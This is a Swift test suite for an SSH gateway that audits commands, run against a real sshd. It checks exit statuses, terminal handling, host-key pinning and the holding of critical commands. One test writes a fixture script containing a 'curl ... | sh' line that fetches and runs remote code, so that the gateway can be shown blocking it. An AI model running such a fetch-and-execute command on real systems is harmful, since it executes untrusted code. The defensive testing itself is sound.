import AuditLog
import EscortCore
import EscortTesting
import Foundation
@testable import Gateway
import Testing

/// The gateway against a real sshd started by the test, with the stock OpenSSH client in front.
@Suite(.serialized)
struct SSHTargetTests {
    static let available = SSHDaemon.available && FileManager.default.isExecutableFile(atPath: "/usr/bin/ssh")

    @Test(.enabled(if: available))
    func commandsRunOnARealSSHDWithTheGatewaysOwnKey() async throws {
        let keys = TemporaryDirectory(prefix: "escort-target-key")
        let targetKey = keys.file("target_ed25519")
        let sshd = try await SSHDaemon(authorizedKey: try SSHTestKeys.make(targetKey))
        defer { sshd.stop() }
        let gw = try await GatewayFixture(sshd: sshd, targetKey: targetKey)
        defer { Task { await gw.close() } }

        let exec = try gw.ssh("alice+real", as: "alice", tty: false, command: ["--", "echo sum=$((6*7)) user=$(id -un)"])
        #expect(await exec.waitForExit() == 0)
        #expect(exec.output.contains("sum=42 user=\(sshd.user)"), "\(exec.output) \(exec.errorOutput)")

        // An exec session's command runs without a terminal, as `ssh host COMMAND` does (a
        // terminal would cost two thirds of the throughput), quoted whole, with its exit status.
        let plain = try gw.ssh("alice+real", as: "alice", tty: false, command: ["--", "test -t 1 && echo on-a-tty || echo no-tty; echo \"it's $((3+4))\"; echo oops >&2; exit 7"])
        #expect(await plain.waitForExit() == 7, "\(plain.output) \(plain.errorOutput)")
        #expect(plain.output.contains("no-tty\nit's 7\n"), "\(plain.output) \(plain.errorOutput)")
        #expect(plain.output.contains("oops") || plain.errorOutput.contains("oops"), "\(plain.output) \(plain.errorOutput)")
        let finished = try await gw.events().filter { $0.0 == AuditEventCode.commandFinished.code }.compactMap { $0.1["exit_status"]?.integerValue }
        #expect(finished.contains(7), "\(finished)")
        // With `ssh -t` the engineer asked for a terminal, and the command gets one on the target.
        let onTerminal = try gw.ssh("alice+real", as: "alice", tty: true, command: ["--", "test -t 1 && echo on-a-tty || echo no-tty"])
        #expect(await onTerminal.waitForExit() == 0, "\(onTerminal.output) \(onTerminal.errorOutput)")
        #expect(onTerminal.output.contains("on-a-tty"), "\(onTerminal.output) \(onTerminal.errorOutput)")

        // Interactive: the gateway reads a script from the target before deciding about it.
        let scripts = TemporaryDirectory(prefix: "escort-scripts")
        try "#!/bin/sh\necho restarting\ncurl -s http://203.0.113.9/k | sh\n".write(toFile: scripts.file("fix_servers.sh"), atomically: true, encoding: .utf8)
        try "#!/bin/sh\necho all-good-$((2+3))\n".write(toFile: scripts.file("check.sh"), atomically: true, encoding: .utf8)
        let p = try gw.ssh("alice+real", as: "alice", tty: true)
        #expect(await p.waitFor("real:"), "\(p.output) \(p.errorOutput)")
        p.send("cd \(scripts.path)\r")
        #expect(await p.waitFor("real:\(scripts.path)$"))
        p.send("bash check.sh\r")
        #expect(await p.waitFor("all-good-5"))
        let mark = p.output.count
        p.send("bash fix_servers.sh\r")
        // Critical in a direct session: held for an escort and a technical reviewer.
        #expect(await p.waitFor("held for an escort and a technical reviewer", after: mark), "\(p.output)")
        p.send("\u{03}")
        #expect(await p.waitFor("withdrawn"))
        p.send("exit\r")
        #expect(await p.waitForExit() != nil)

        let events = try await gw.events()
        let held = events.first { $0.0 == AuditEventCode.commandHeld.code }
        #expect(held?.1["risk"]?.stringValue == "critical")
        let forwarded = events.filter { $0.0 == AuditEventCode.commandForwarded.code }.compactMap { $0.1["command"]?.stringValue }
        #expect(forwarded.contains("bash check.sh"))
        #expect(!forwarded.contains("bash fix_servers.sh"))
    }

    /// The cause of the script read that failed in a clean-clone CI run: sshd sends the end of a
    /// command's output and its exit status in either order, and on a loaded machine the end of
    /// output often comes first. The gateway closed the channel on it, lost the exit status and
    /// counted the script as unread. Here the command closes its output well before it exits;
    /// its exit status must still arrive, and a script is read whole.
    @Test(.enabled(if: available))
    func theExitStatusIsKeptWhenTheOutputEndsFirst() async throws {
        let keys = TemporaryDirectory(prefix: "escort-target-key")
        let targetKey = keys.file("target_ed25519")
        let sshd = try await SSHDaemon(authorizedKey: try SSHTestKeys.make(targetKey))
        defer { sshd.stop() }
        let opened = try await SSHTargetConnector(host: "127.0.0.1", port: sshd.port, user: sshd.user, keyPath: targetKey, hostKey: sshd.hostKey)
            .openShell(columns: 80, rows: 24, term: "xterm")
        let shell = try #require(opened as? SSHTargetShell)
        let (bytes, status) = try await shell.run("printf early; exec >&- 2>&-; sleep 0.5; exit 3", limit: 100)
        #expect(String(decoding: bytes, as: UTF8.self) == "early")
        #expect(status == 3)

        let dir = TemporaryDirectory(prefix: "escort-read")
        try "#!/bin/sh\necho all-good\n".write(toFile: dir.file("check.sh"), atomically: true, encoding: .utf8)
        for _ in 0..<10 {
            let read = try await shell.readFile(dir.file("check.sh"), limit: 1 << 16)
            #expect(read == Array("#!/bin/sh\necho all-good\n".utf8))
        }
        #expect(try await shell.readFile(dir.file("missing.sh"), limit: 100) == nil)
        await shell.close()
    }

    @Test(.enabled(if: available))
    func aTargetThatIsDownGivesAClearErrorAndRunsNothing() async throws {
        let keys = TemporaryDirectory(prefix: "escort-target-key")
        let targetKey = keys.file("target_ed25519")
        let sshd = try await SSHDaemon(authorizedKey: try SSHTestKeys.make(targetKey))
        let gw = try await GatewayFixture(sshd: sshd, targetKey: targetKey)
        defer { Task { await gw.close() } }
        sshd.stop()
        try await Task.sleep(for: .milliseconds(200))
        let p = try gw.ssh("alice+real", as: "alice", tty: false, command: ["--", "echo should-not-run"])
        #expect(await p.waitForExit() == 1)
        #expect(p.errorOutput.contains("Target real is unavailable"), "\(p.errorOutput)")
        let codes = try await gw.events().map(\.0)
        #expect(!codes.contains(AuditEventCode.commandForwarded.code))
    }

    /// A real sshd whose key is not the pinned one (a machine in the middle), and a target with
    /// no pin at all: both refused before anything is sent.
    @Test(.enabled(if: available))
    func aTargetWithAnotherHostKeyOrNoneIsRefused() async throws {
        let keys = TemporaryDirectory(prefix: "escort-target-key")
        let targetKey = keys.file("target_ed25519")
        let sshd = try await SSHDaemon(authorizedKey: try SSHTestKeys.make(targetKey))
        defer { sshd.stop() }
        let impostor = try SSHTestKeys.make(keys.file("impostor"))
        for pin in [impostor, nil] {
            let connector = SSHTargetConnector(host: "127.0.0.1", port: sshd.port, user: sshd.user, keyPath: targetKey, hostKey: pin)
            do {
                let shell = try await connector.openShell(columns: 80, rows: 24, term: "xterm")
                await shell.close()
                Issue.record("connected with pin \(pin ?? "none")")
            } catch let e as HostKeyMismatch {
                // The error names the key the target presented, as ssh-keygen -l prints it.
                #expect(pin != nil, "\(e)")
                #expect("\(e)".contains("not the pinned one"), "\(e)")
                try sshd.hostKey.write(toFile: keys.file("daemon.pub"), atomically: true, encoding: .utf8)
                let printed = try await ChildProcess.run("/usr/bin/ssh-keygen", ["-lf", keys.file("daemon.pub")])
                #expect(printed.stdout.split(separator: " ").dropFirst().first.map(String.init) == e.presented, "\(printed.stdout) \(e)")
                #expect(e.pinned != e.presented)
            } catch let e as GatewayError {
                #expect(pin == nil, "\(e)")
                #expect(e.code == .targetUnavailable, "\(e)")
                #expect("\(e)".contains("no pinned host key"), "\(e)")
            }
        }
        // The right pin connects.
        let shell = try await SSHTargetConnector(host: "127.0.0.1", port: sshd.port, user: sshd.user, keyPath: targetKey, hostKey: sshd.hostKey)
            .openShell(columns: 80, rows: 24, term: "xterm")
        await shell.close()
    }
}

